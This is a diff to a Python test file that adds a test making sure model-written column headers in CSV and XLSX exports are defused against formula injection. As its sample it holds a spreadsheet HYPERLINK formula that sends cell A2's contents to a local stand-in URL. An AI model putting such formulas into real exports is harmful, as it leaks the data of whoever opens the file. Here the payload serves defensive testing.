@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
@@ -105,3 +106,17 @@ def test_a_cell_opens_its_passage_with_the_contract_around_the_quote():
     assert passage(SAMPLE, None, columns[0], columns).quotes[0].status == "unchecked"
     assert passage(SAMPLE, CONTRACT, "Audit rights", columns).section == ""
     assert passage(None, None, "x", columns).quotes == []  # type: ignore[arg-type]
+
+
+def test_csv_headers_a_model_wrote_are_defused_like_cells():
+    """A category heading the model wrote becomes a column header: it must not run as a formula
+    in the CSV any more than in the XLSX."""
+    heading = '=HYPERLINK("http://127.0.0.1:9/?q="&A2,"open")'
+    report = f"## Overall risk: LOW\n### {heading} — RED\n- Found: yes\n"
+    grid = grid_frame([GridRun("acme.pdf", "Model A", record(report))], "general")
+    assert heading in category_columns(grid)
+    [header, row] = list(csv.reader(io.StringIO(grid_csv(grid).decode())))
+    assert "'" + heading in header and heading not in header
+    assert not [cell for cell in header + row if cell.startswith(("=", "+", "-", "@"))]
+    sheet = openpyxl.load_workbook(io.BytesIO(grid_xlsx(grid))).active
+    assert "'" + heading in [c.value for c in sheet[1]]
